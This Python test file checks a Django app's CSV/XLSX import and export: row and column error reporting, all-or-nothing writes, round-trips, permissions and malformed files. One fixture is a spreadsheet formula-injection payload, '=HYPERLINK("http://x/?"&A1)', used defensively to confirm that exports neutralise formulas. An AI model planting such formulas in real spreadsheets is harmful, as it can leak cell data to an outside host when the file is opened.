"""Importing CSV/XLSX: bad rows named by row and column with nothing written, all rows or none,
exports that import back unchanged, and no 500 on odd files."""

import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from core.errors import NotAllowed
from golive.importing import MAX_BYTES, FileProblem, RowError, export_csv, export_xlsx, run_import
from inventory.models import Item, OpeningStock, StockBalance
from purchasing.models import Supplier
from sales import selectors
from sales.models import Customer

pytestmark = pytest.mark.django_db

ITEMS = (
    "sku,name,kind,unit,reorder_level,default_price\n"
    "PF-500,Preform 500 ml,preform,pcs,500,\n"
    "CAP-28,Cap 28 mm,cap,pcs,many,\n"
    "BTL-500,Bottle 500 ml,bottle,pcs,100,5.00\n"
)


def _csv(text: str) -> bytes:
    return text.encode()


def _counts() -> tuple:
    return (
        Item.objects.count(),
        Item.history.count(),
        Customer.objects.count(),
        Customer.history.count(),
        Supplier.objects.count(),
        OpeningStock.objects.count(),
    )


def test_a_bad_row_in_the_middle_writes_nothing_and_names_its_row_and_column(manager_user):
    for dry_run in (True, False):
        result = run_import(
            by=manager_user, kind="items", data=_csv(ITEMS), filename="items.csv", dry_run=dry_run
        )
        assert result.errors == [RowError(3, "reorder_level", "enter a whole number (not 'many')")]
        assert not Item.objects.exists() and not result.written


def test_a_good_file_writes_every_row(manager_user, settings):
    settings.GO_LIVE_DATE = timezone.localdate() - timedelta(days=3)
    good = ITEMS.replace("many", "500")
    checked = run_import(by=manager_user, kind="items", data=_csv(good), filename="i.csv", dry_run=True)
    assert (checked.errors, checked.created, Item.objects.count()) == ([], 3, 0)
    result = run_import(by=manager_user, kind="items", data=_csv(good), filename="i.csv", dry_run=False)
    assert (result.errors, result.created, result.written) == ([], 3, True)
    assert Item.objects.get(sku="BTL-500").default_price == Decimal("5.00")
    assert Item.objects.get(sku="CAP-28").kind == "cap"

    stock = "sku,quantity,unit_cost\nPF-500,1000,1.2500\nBTL-500,200,2.10\n"
    result = run_import(
        by=manager_user, kind="opening_stock", data=_csv(stock), filename="s.csv", dry_run=False
    )
    assert (result.errors, result.created) == ([], 2)
    balance = StockBalance.objects.get(item__sku="PF-500")
    assert (balance.quantity, balance.value) == (1000, Decimal("1250.00"))

    run_import(
        by=manager_user, kind="customers", data=_csv("name\nAqua Traders\n"), filename="c.csv", dry_run=False
    )
    dues = "customer,amount\nAqua Traders,740.25\n"
    result = run_import(
        by=manager_user, kind="customer_dues", data=_csv(dues), filename="d.csv", dry_run=False
    )
    assert result.errors == []
    assert selectors.customer_outstanding(Customer.objects.get()) == Decimal("740.25")


def test_a_row_the_service_refuses_is_named_and_the_rest_is_not_written(manager_user):
    stock = "sku,quantity,unit_cost\nNOPE,5,1\n"
    result = run_import(
        by=manager_user, kind="opening_stock", data=_csv(stock), filename="s.csv", dry_run=False
    )
    assert result.errors == [RowError(2, "sku", "no item has SKU NOPE")]
    repeated = "sku,name\nA-1,One\na-1,Again\n"
    result = run_import(by=manager_user, kind="items", data=_csv(repeated), filename="i.csv", dry_run=False)
    assert result.errors == [RowError(3, "sku", "repeats row 2")]
    assert not Item.objects.exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_re_importing_an_export_changes_nothing(plant, manager_user, settings, fmt):
    settings.GO_LIVE_DATE = timezone.localdate()
    Customer.objects.create(
        name='=HYPERLINK("http://x/?"&A1)', phone="+91 98", credit_limit=Decimal("5000.00")
    )
    Supplier.objects.create(name="-Minus Supplies", notes="@note")
    run_import(
        by=manager_user,
        kind="opening_stock",
        data=_csv("sku,quantity,unit_cost\nPF-500,10,1.5\n"),
        filename="s.csv",
        dry_run=False,
    )
    before = _counts()
    for kind in ("items", "customers", "suppliers", "opening_stock"):
        data = export_csv(kind).encode() if fmt == "csv" else export_xlsx(kind)
        result = run_import(by=manager_user, kind=kind, data=data, filename=f"{kind}.{fmt}", dry_run=False)
        assert result.errors == [], kind
        assert result.created == result.updated == 0 and result.unchanged == result.rows > 0, kind
    assert _counts() == before


def test_exports_keep_formula_like_text_as_text(db, manager_user):
    Customer.objects.create(name='=HYPERLINK("http://x/?"&A1)')
    assert "'=HYPERLINK" in export_csv("customers")
    sheet = load_workbook(io.BytesIO(export_xlsx("customers"))).active
    cell = sheet["A2"]
    assert cell.value == '=HYPERLINK("http://x/?"&A1)' and cell.data_type == "s"


def test_staff_may_not_import(staff_user):
    with pytest.raises(NotAllowed):
        run_import(by=staff_user, kind="items", data=_csv(ITEMS), filename="i.csv", dry_run=True)


def _xlsx(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_an_xlsx_file_imports_like_a_csv(manager_user):
    data = _xlsx([["sku", "name", "reorder_level", "default_price"], ["X-1", "Thing", 20, 4.5]])
    result = run_import(by=manager_user, kind="items", data=data, filename="i.xlsx", dry_run=False)
    assert result.errors == []
    item = Item.objects.get(sku="X-1")
    assert (item.reorder_level, item.default_price) == (20, Decimal("4.50"))


ODD_FILES = {
    "empty": (b"", "e.csv"),
    "wrong columns": (b"colour,size\nred,2\n", "w.csv"),
    "binary garbage": (bytes(range(256)) * 40, "g.csv"),
    "nul bytes": (b"sku,name\nA\x00,B\n", "n.csv"),
    "broken xlsx": (b"PK\x03\x04not really a zip", "b.xlsx"),
    "huge": (b"sku,name\n" + b"A,B\n" * (MAX_BYTES // 4 + 1), "h.csv"),
    "header only": (b"sku,name\n", "h.csv"),
    "too many cells": (b"sku,name\nA,B,C,D\n", "t.csv"),
    "too many rows": (b"sku,name\n" + b"A,B\n" * 20_001, "r.csv"),
    "latin-1": ("sku,name\nA,Caf\u00e9\n".encode("latin-1"), "l.csv"),
    "unclosed quote": (b'sku,name\n"A,B\n', "q.csv"),
}


@pytest.mark.parametrize("name", ODD_FILES)
def test_odd_files_get_a_reason_and_never_a_500(manager_client, manager_user, name):
    data, filename = ODD_FILES[name]
    try:
        result = run_import(by=manager_user, kind="items", data=data, filename=filename, dry_run=False)
    except FileProblem:
        pass
    else:
        assert result.errors or result.rows == 0
    response = manager_client.post(
        reverse("golive:import"), {"kind": "items", "file": SimpleUploadedFile(filename, data)}
    )
    assert response.status_code in (200, 400)
    assert not Item.objects.exists()


def test_the_page_checks_then_imports_on_confirmation(manager_client, staff_client):
    url = reverse("golive:import")
    assert staff_client.get(url).status_code == 403
    good = ITEMS.replace("many", "5").encode()
    response = manager_client.post(url, {"kind": "items", "file": SimpleUploadedFile("i.csv", good)})
    assert response.status_code == 200 and b"3 rows checked" in response.content
    assert not Item.objects.exists()
    digest = response.context["pending"]["digest"]
    response = manager_client.post(reverse("golive:import-confirm"), {"digest": digest})
    assert response.status_code == 302 and Item.objects.count() == 3

    bad = manager_client.post(url, {"kind": "items", "file": SimpleUploadedFile("i.csv", ITEMS.encode())})
    assert (
        bad.status_code == 400 and b"reorder_level" in bad.content and b"nothing was written" in bad.content
    )


def test_templates_download_for_managers(manager_client):
    response = manager_client.get(reverse("golive:template", args=["items", "csv"]))
    assert response.status_code == 200 and response.content.decode().startswith("sku,name,kind")
    assert manager_client.get(reverse("golive:template", args=["items", "xlsx"])).status_code == 200
    assert manager_client.get(reverse("golive:template", args=["nope", "csv"])).status_code == 404


def test_the_import_command_checks_and_writes(manager_user, tmp_path, capsys):
    path = tmp_path / "items.csv"
    path.write_text(ITEMS)
    with pytest.raises(CommandError, match="nothing was written"):
        call_command("import", "items", str(path), by=manager_user.username)
    assert "row 3, column reorder_level" in capsys.readouterr().err
    path.write_text(ITEMS.replace("many", "7"))
    call_command("import", "items", str(path), "--dry-run", by=manager_user.username)
    assert not Item.objects.exists()
    call_command("import", "items", str(path), by=manager_user.username)
    assert Item.objects.count() == 3


def test_xlsx_rows_are_numbered_as_the_sheet_shows_them(manager_user):
    data = _xlsx(
        [["sku", "name", "reorder_level"], ["A-1", "One", 1], [None, None, None], ["A-2", "Two", -3]]
    )
    result = run_import(by=manager_user, kind="items", data=data, filename="i.xlsx", dry_run=False)
    assert result.errors == [RowError(4, "reorder_level", "enter a whole number of 0 or more (not '-3')")]
    assert not Item.objects.exists()
